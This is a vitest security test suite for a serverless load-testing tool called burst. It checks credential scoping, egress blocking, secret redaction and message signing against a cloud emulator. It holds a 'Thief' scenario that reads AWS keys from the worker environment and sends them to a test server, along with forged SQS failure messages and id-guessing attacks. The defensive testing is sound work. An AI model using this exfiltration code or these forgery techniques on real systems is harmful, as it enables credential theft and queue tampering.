import { SQSClient } from '@aws-sdk/client-sqs'
import { mkdir, readdir, rm, symlink, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { createServer as createTcpServer } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { encodeMessage } from '../../../core/window/codec/codec.ts'
import type { RunPlan } from '../../../core/plan/plan.ts'
import type { Report } from '../../../core/report/report.ts'
import { keys } from '../../../functions/keys.ts'
import { messageOf } from '../../fixtures/windows.ts'
import { ended, listening } from '../../targets/server.ts'
import { Account } from '../account.ts'
import type { Cloud } from '../emulators/cloud.ts'
import { startMiniStack } from '../emulators/ministack.ts'
import { merged } from '../journeys/mishaps.ts'
import { type Person, newPerson, writeScenario } from '../person.ts'
import { until } from '../until.ts'
import { Access, type Credentials, sendFailure } from './access.ts'
import { ways } from './ways-to-send.ts'

/** The credentials that the scenario sent to the target. */
const told: Credentials[] = []
/** The results of all ways to send a request: `user` for the code of a user, and `hook` for the code of a hook. */
let reached: { user?: Record<string, string>; hook?: Record<string, string> } = {}
const target = createServer((request, response) => {
  const { pathname, searchParams } = new URL(request.url ?? '/', 'http://target')
  const said = (name: string): string => searchParams.get(name) ?? ''
  if (pathname === '/reached') reached = JSON.parse(said('outcomes')) as typeof reached
  if (pathname === '/')
    told.push({ accessKeyId: said('key'), secretAccessKey: said('secret'), sessionToken: said('token') })
  response.end('ok')
})
/** A server on `localhost`, a host that the stack does not allow. */
const forbidden = createTcpServer((socket) => {
  connections++
  socket.destroy()
})
let connections = 0
/** The value of a secret variable of the run. */
const password = 'correct horse battery staple'

let cloud: Cloud
let account: Account
let person: Person
let report: Report
let access: Access

/** Returns a scenario that sends the environment of its worker to the target. */
const thief = (port: string, origin: string): string => `import { HttpUser, hold, ramp, scenario } from 'burst'
import { all } from './ways.mjs'
class Thief extends HttpUser {
  tasks = { tell: 1 }
  async onStart() {
    const outcomes = JSON.stringify({ user: await all(${port}, '${origin}'), hook: this.data })
    await this.http.get('/reached?' + new URLSearchParams({ outcomes }), { name: '/reached' })
  }
  async tell() {
    const { AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY, AWS_SESSION_TOKEN } = process.env
    const query = new URLSearchParams({ key: AWS_ACCESS_KEY_ID, secret: AWS_SECRET_ACCESS_KEY, token: AWS_SESSION_TOKEN })
    await this.http.get('/?' + query, { name: '/' })
    await this.sleep('1s')
  }
}
export default scenario({ host: 'http://127.0.0.1:1', users: [Thief], load: [ramp(1, '0s'), hold('2s')], beforeRun: () => all(${port}, '${origin}') })
`

beforeAll(async () => {
  cloud = await startMiniStack()
  account = new Account(cloud)
  person = await newPerson(cloud)
  const origin = await listening(target)
  await person.manages('deploy', '--yes', '--allow', cloud.targetHost, '--allow', 'shop.example.com')
  await writeFile(join(person.folder, 'thief.burst.ts'), thief(new URL(await listening(forbidden)).port, origin))
  await writeFile(join(person.folder, 'ways.mjs'), ways)
  await mkdir(join(person.folder, 'node_modules'))
  await symlink(
    join(import.meta.dirname, '../../../node_modules/undici'),
    join(person.folder, 'node_modules', 'undici'),
  )
  const flags = ['--yes', '--json', '-H', origin, '--var', `password=${password}`]
  const { stdout } = await person.manages('run', 'thief.burst.ts', ...flags)
  report = JSON.parse(stdout) as Report
  access = new Access(account, report.run)
}, 300_000)
afterAll(async () => {
  await ended(target)
  await ended(forbidden)
  await cloud?.stop()
  if (person) await rm(person.folder, { recursive: true, force: true })
}, 60_000)

test('a run works with credentials that are valid only for this run', () => {
  expect(report.completeness).toMatchObject({ complete: true, lost: [], unreadable: 0 })
  expect(report.totals.requests).toBeGreaterThan(0)
})

test('when a run has ended, no object in the bucket contains the value of its secret variable', async () => {
  const stored = await account.keys('')
  const found = await Promise.all(
    stored.map(async (key) => ((await account.object(key)).includes(password) ? key : '')),
  )
  expect(found.filter((key) => key !== '')).toEqual([])
  expect(JSON.parse(await account.object(keys.plan(report.run.id)))).toMatchObject({ vars: { password: '***' } })
})

test('neither a scenario nor its hook can reach a host that the stack does not allow', () => {
  for (const outcomes of [reached.user, reached.hook]) {
    const { allowed, ...others } = outcomes ?? {}
    expect(allowed).toBe('went through')
    expect(Object.keys(others)).toHaveLength(18)
    expect(Object.entries(others).filter(([, outcome]) => outcome !== 'BURST_REFUSED')).toEqual([])
  }
  expect(connections).toBe(0)
})

test('a scenario can use the credentials in the environment of its worker only to send to the queue of failed invocations', async () => {
  const found = told[0]
  if (!found?.accessKeyId) throw new Error('the scenario found no credentials')
  await access.storeAll(report.run.id)
  expect(await access.allowedBy(found, report.run.id)).toEqual(['send to the failures'])
})

test('the credentials of a worker are limited to its run and the shared queue, and the credentials of a hook are limited to its run', async () => {
  await Promise.all([report.run.id, 'other'].map(async (run) => access.storeAll(run)))
  const reads = [
    'read plan.json',
    'read control.json',
    'read variables.json',
    'read hooks/beforeRun',
    'read the bundle',
  ]
  // SQS permissions cannot depend on the message group, so messages are signed and have ids that cannot be guessed.
  const message = "send to the workers' queue"
  const worker = await access.credentialsOf('worker')
  const ofWorker = ['read claims/0-0', 'read handover/0-0/0', 'read secret', 'write claims/0-0', 'write handover/0-0/0']
  expect(await access.allowedBy(worker, report.run.id)).toEqual([...reads, ...ofWorker, message].toSorted())
  expect(await access.allowedBy(worker, 'other')).toEqual([message])
  const hook = await access.credentialsOf('hook')
  expect(await access.allowedBy(hook, report.run.id)).toEqual([...reads, 'write hooks/beforeRun'].toSorted())
  expect(await access.allowedBy(hook, 'other')).toEqual([])
})

test('if a scenario reports a failed invocation of another run, burst does not replace the worker of that run', async () => {
  const scenario = await writeScenario(person.folder, report.run.host, '200ms')
  const flags = ['--yes', '--detach', '-u', '2', '-t', '20s', '--workers', '2']
  const { stdout } = await person.manages('run', scenario, ...flags)
  const run = stdout.trim().split('\n').at(-1) ?? ''
  await merged(account, run)
  const functionArn = 'arn:aws:lambda:us-east-1:000000000000:function:burst-worker'
  const forged = { requestContext: { functionArn }, requestPayload: { run, slice: 1, attempt: 0, startAt: 0 } }
  const sqs = new SQSClient({ ...account.settings, credentials: told[0] as Credentials })
  await sendFailure(sqs, await account.output('FailuresQueueUrl'), JSON.stringify(forged))
  const isRead = async (): Promise<true | undefined> =>
    (await account.keys(keys.failures(run))).length > 0 ? true : undefined
  await until(isRead, 'the coordinator did not read the forged failure')
  const { workers, completeness } = JSON.parse((await person.burst('watch', run, '--json')).stdout) as Report
  expect(workers.map(({ attempts, errors }) => ({ attempts, errors }))).toEqual([
    { attempts: 1, errors: [] },
    { attempts: 1, errors: [] },
  ])
  expect(completeness).toMatchObject({ complete: true, lost: [] })
})

test('a message without a valid signature is set aside as unreadable, and a guessed id does not suppress the real message', async () => {
  const run = report.run.id
  const forged = encodeMessage(messageOf({ run, build: report.run.build, sequence: 1000 }))
  const before = await account.keys(keys.unreadables(run))
  // Guesses the id of the run's first message. If SQS gets two messages with the same id within five minutes, it drops the second message.
  await access.send(account.sqs, run, { body: forged, id: `${run}-0-0-0` })
  const found = async (): Promise<string | undefined> =>
    (await account.keys(keys.unreadables(run))).find((key) => !before.includes(key))
  const aside = await until(found, 'the forged message was not set aside')
  expect(await account.object(aside)).toContain('the message is not signed by a worker of its run')
})

test('the plan contains no secrets of the run', async () => {
  const plan = JSON.parse(await account.object(keys.plan(report.run.id))) as RunPlan
  expect(plan.signed).toBe(true)
  expect(JSON.stringify(plan)).not.toContain(await account.object(keys.secret(report.run.id)))
})

test('if AWS refused to start a run, or if the command died before it started the run, burst watch does not start the run', async () => {
  const limited = await newPerson(cloud, await account.userWithout('lambda:InvokeFunction'))
  const scenario = await writeScenario(limited.folder, report.run.host)
  const known = await account.keys('runs/')
  const refused = await limited.burst('run', scenario, '--yes', '-t', '10m')
  expect([refused.code, refused.stderr]).toEqual([97, expect.stringContaining('AWS denies you lambda:InvokeFunction')])
  expect(await readdir(limited.folder)).toEqual([scenario])
  const plan = (await account.keys('runs/')).find((key) => key.endsWith('/plan.json') && !known.includes(key))
  const run = plan?.split('/')[1] ?? ''
  const before = told.length
  const watched = await person.burst('watch', run)
  expect([watched.code, watched.stderr]).toEqual([97, expect.stringContaining(`run ${run} was never started`)])
  expect(await account.keys(keys.coordinator(run))).toEqual([])
  // The command died after it had marked the run as active, but before it invoked the coordinator. The mark therefore exists. The lease lasts for
  // another 30 s. Until the end of the lease, a coordinator could begin the run.
  const at = Date.now()
  await account.put(
    keys.control(run),
    JSON.stringify({ v: 1, startAt: at + 20_000, leaseUntil: at + 30_000, stop: null }),
  )
  await account.put(keys.active(run), '')
  const late = await person.burst('watch', run, '--json')
  const { verdict, users } = JSON.parse(late.stdout) as Report
  expect([late.code, verdict.reasons[0], users.started]).toEqual([97, expect.stringContaining('never began'), 0])
  expect(await account.keys(keys.claims(run))).toEqual([])
  expect(told.length).toBe(before)
  await rm(limited.folder, { recursive: true, force: true })
})
